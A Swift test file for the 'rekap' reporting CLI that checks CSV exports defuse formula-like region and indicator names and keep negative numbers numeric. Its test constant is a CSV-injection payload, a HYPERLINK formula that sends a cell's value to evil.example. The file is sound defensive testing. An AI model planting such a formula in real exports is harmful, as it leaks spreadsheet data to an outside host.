import Foundation
import RekapTestSupport
import Testing

/// A region or indicator named like a spreadsheet formula comes out of every CSV rekap writes as text
/// (a leading apostrophe, OWASP's rule), while negative numbers in numeric columns stay numbers.
@Suite struct CSVInjectionTests {
    static let formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Klik\")"
    /// How the formula reads back from the CSV: behind an apostrophe.
    static let neutralised = "'" + formula

    /// Kota Dumai with Dumai Timur (14.72.02) renamed to the formula, and the demo's reports, Dumai
    /// Timur's with one more indicator named the formula whose target and realisasi are negative.
    func withHostileDumai(_ label: String, _ body: (String) async throws -> Void) async throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("rekap-csv-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let quoted = "\"" + Self.formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        let regions = try String(contentsOf: RepositoryFiles.dumaiCSV, encoding: .utf8)
            .replacingOccurrences(of: "14.72.02,Dumai Timur,3,14.72", with: "14.72.02,\(quoted),3,14.72")
        let regionsFile = folder.appendingPathComponent("regions.csv")
        try regions.write(to: regionsFile, atomically: true, encoding: .utf8)

        let original = try Data(contentsOf: RepositoryFiles.demoSubmissions.appendingPathComponent("14.72.02-2023.json"))
        var document = try #require(try JSONSerialization.jsonObject(with: original) as? [String: Any])
        var indicators = try #require(document["indicators"] as? [[String: Any]])
        indicators.append(["code": "PDRB", "name": Self.formula, "unit": "%", "polarity": "higher", "target": "-2.5", "realisasi": "-1.25"])
        document["indicators"] = indicators
        let hostileSubmission = folder.appendingPathComponent("14.72.02-2023.json")
        try JSONSerialization.data(withJSONObject: document).write(to: hostileSubmission)

        try await withCLIDatabase(label: label, dumai: false) { url, _ in
            let imported = try await runRekap(["regions", "import", regionsFile.path, "--database", url])
            #expect(imported.status == 0, "\(imported)")
            for file in try FileManager.default.contentsOfDirectory(atPath: RepositoryFiles.demoSubmissions.path).sorted()
            where file.hasSuffix(".json") {
                let path = file == "14.72.02-2023.json" ? hostileSubmission.path : RepositoryFiles.demoSubmissions.appendingPathComponent(file).path
                let run = try await runRekap(["submit", path, "--database", url])
                #expect(run.status == 0, "\(file): \(run)")
            }
            try await body(url)
        }
    }

    /// The records of a CSV text (RFC 4180), whatever its line ends.
    func records(_ text: String) -> [[String]] {
        var records: [[String]] = [], record: [String] = [], field = ""
        var quoted = false
        let characters = Array(text.replacingOccurrences(of: "\r\n", with: "\n"))
        var index = 0
        while index < characters.count {
            let c = characters[index]
            index += 1
            if quoted {
                if c != "\"" {
                    field.append(c)
                } else if index < characters.count, characters[index] == "\"" {
                    field.append("\"")  // a doubled quote
                    index += 1
                } else {
                    quoted = false
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                record.append(field)
                field = ""
            } else if c == "\n" {
                record.append(field)
                records.append(record)
                record = []
                field = ""
            } else {
                field.append(c)
            }
        }
        return records
    }

    @Test(.timeLimit(.minutes(5)))
    func rankAndReportCSVNeutraliseNamesAndKeepNegativeNumbers() async throws {
        try await withHostileDumai("cli_csv_injection") { url in
            for kind in ["penyerapan", "iku"] {
                let run = try await runRekap(["rank", kind, "--city", "14.72", "--year", "2023", "--format", "csv", "--database", url])
                #expect(run.status == 0, "\(run)")
                let row = try #require(records(run.stdout).first { $0.count > 2 && $0[1] == "14.72.02" }, "\(run.stdout)")
                #expect(row[2] == Self.neutralised, "\(kind): \(row)")
                #expect(!run.stdout.contains("," + Self.formula) && !run.stdout.contains(",\"=HYPERLINK"), "\(run.stdout)")
                // JSON is not a spreadsheet format: the name is exactly what was stored.
                let json = try await runRekap(["rank", kind, "--city", "14.72", "--year", "2023", "--format", "json", "--database", url])
                let rows = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
                #expect(rows.contains { $0["name"] as? String == Self.formula })
            }

            // One indicator's ranking: its negative realisasi and target stay numbers.
            let indicator = try await runRekap(["rank", "iku", "--city", "14.72", "--year", "2023", "--indicator", "PDRB",
                                                "--format", "csv", "--database", url])
            #expect(indicator.status == 0, "\(indicator)")
            let pdrb = try #require(records(indicator.stdout).first { $0.count == 6 && $0[1] == "14.72.02" }, "\(indicator.stdout)")
            #expect(pdrb[2] == Self.neutralised && pdrb[4] == "-1.25" && pdrb[5] == "-2.5", "\(pdrb)")

            let report = try await runRekap(["report", "--city", "14.72", "--year", "2023", "--format", "csv", "--database", url])
            #expect(report.status == 0, "\(report)")
            let all = records(report.stdout)
            let header = try #require(all.first { $0.first == "section" && $0.contains("indicator_name") && $0.contains("realisasi") })
            let row = try #require(all.first { $0.first == "iku-kecamatan" && $0.contains("PDRB") }, "\(report.stdout)")
            func field(_ key: String) throws -> String { row[try #require(header.firstIndex(of: key))] }
            #expect(try field("kecamatan_name") == Self.neutralised)
            #expect(try field("indicator_name") == Self.neutralised)
            #expect(try field("target") == "-2.5" && field("realisasi") == "-1.25", "\(row)")
            // No field anywhere starts with the live formula.
            #expect(!all.joined().contains { $0.hasPrefix("=") }, "\(report.stdout)")
        }
    }
}
